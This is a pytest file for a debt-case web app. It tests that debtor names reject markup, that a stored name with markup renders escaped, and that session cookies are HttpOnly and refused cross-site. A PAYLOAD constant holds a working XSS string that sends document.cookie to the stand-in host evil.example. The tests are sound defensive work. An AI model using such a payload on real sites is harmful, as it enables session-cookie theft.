"""Issue #19, item 1: a debtor's name cannot carry HTML into the page, names obey one rule
everywhere, and the session cookie is HttpOnly, set by the server, out of reach of page scripts."""

from __future__ import annotations

import pytest
from sqlalchemy import Engine
from sqlalchemy.orm import Session
from starlette.applications import Starlette
from starlette.testclient import TestClient

from core.auth.sessions import ENDED_REVOKED, check_session, session_id_of, start_session
from core.cases.models import Debtor
from core.cases.service import update_debtor
from core.errors import ValidationFailed
from core.importer.values import ValueProblem, parse_person_name
from tests.app.conftest import signed_in
from tests.factories import make_case, make_user
from ui import cookie_routes

PAYLOAD = '<img src=x><iframe srcdoc="<script>parent.fetch(`//evil.example/?c=${document.cookie}`)</script>">'


def test_update_debtor_applies_the_importers_name_rule(session: Session) -> None:
    lawyer = make_user(session, "lawyer")
    case = make_case(session)
    session.commit()
    version = session.get(Debtor, case.debtor_id).version
    with pytest.raises(ValidationFailed, match="is not a person's name"):
        update_debtor(session, lawyer, case.debtor_id, {"full_name": PAYLOAD}, expected_version=version)
    with pytest.raises(ValueProblem, match="is not a person's name"):
        parse_person_name(PAYLOAD)
    # the same rule accepts the same real names in both places
    for name in ("петрова-водкина анна ивановна", "O'Brien John"):
        parse_person_name(name)
        update_debtor(session, lawyer, case.debtor_id, {"full_name": name}, expected_version=version)
        session.commit()
        version = session.get(Debtor, case.debtor_id).version


def test_a_stored_name_with_markup_is_shown_as_text_on_the_case_card(app_db: Session) -> None:
    lawyer = make_user(app_db, "lawyer")
    case = make_case(app_db, responsible=lawyer)
    debtor = app_db.get(Debtor, case.debtor_id)
    debtor.full_name = PAYLOAD  # imported before the rule existed, or written around the service
    app_db.commit()
    at = signed_in(lawyer)
    at.query_params["case"] = case.number
    at = at.run()
    assert not at.exception
    html_markdown = [m.value for m in at.markdown if "<span" in m.value]  # the header with its badge
    assert html_markdown, "the case header was not rendered"
    header = html_markdown[0]
    assert "<img" not in header and "<iframe" not in header and "<script" not in header
    assert "&lt;img src=x&gt;" in header


@pytest.fixture
def cookie_client(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> TestClient:
    monkeypatch.setattr(cookie_routes, "_active", cookie_routes._active)  # restored after the test
    return TestClient(Starlette(routes=cookie_routes.routes()), base_url="http://cessio.local")


def test_the_server_sets_an_httponly_cookie_for_a_one_time_code(session: Session, cookie_client: TestClient) -> None:
    clerk = make_user(session, "clerk")
    started = start_session(session, clerk)
    session.commit()
    headers = {cookie_routes.HEADER: "1"}
    response = cookie_client.post(cookie_routes.SESSION_PATH, content=started.handoff, headers=headers)
    assert response.status_code == 204
    set_cookie = response.headers["set-cookie"]
    assert set_cookie.startswith(f"{cookie_routes.COOKIE_NAME}=")
    assert "HttpOnly" in set_cookie and "SameSite=strict" in set_cookie and "Path=/" in set_cookie
    cookie = set_cookie.split(";")[0].split("=", 1)[1]
    assert session_id_of(cookie) == started.session_id
    assert started.handoff not in cookie  # the code the page saw is not the cookie
    # the code works once
    again = cookie_client.post(cookie_routes.SESSION_PATH, content=started.handoff, headers=headers)
    assert again.status_code == 403 and "set-cookie" not in again.headers


def test_the_cookie_routes_refuse_other_sites(session: Session, cookie_client: TestClient) -> None:
    clerk = make_user(session, "clerk")
    started = start_session(session, clerk)
    session.commit()
    # a plain cross-site form cannot add the header; a cross-site script is stopped by its Origin
    assert cookie_client.post(cookie_routes.SESSION_PATH, content=started.handoff).status_code == 403
    crossed = cookie_client.post(
        cookie_routes.SESSION_PATH,
        content=started.handoff,
        headers={cookie_routes.HEADER: "1", "Origin": "https://evil.example"},
    )
    assert crossed.status_code == 403


def test_sign_out_through_the_route_revokes_and_removes_the_cookie(session: Session, cookie_client: TestClient) -> None:
    clerk = make_user(session, "clerk")
    started = start_session(session, clerk)
    session.commit()
    headers = {cookie_routes.HEADER: "1"}
    cookie_client.post(cookie_routes.SESSION_PATH, content=started.handoff, headers=headers)
    out = cookie_client.post(cookie_routes.SIGNOUT_PATH, headers=headers)
    assert out.status_code == 204
    assert 'cessio_session=""' in out.headers["set-cookie"] and "Max-Age=0" in out.headers["set-cookie"]
    session.expire_all()
    assert check_session(session, started.session_id) == ENDED_REVOKED
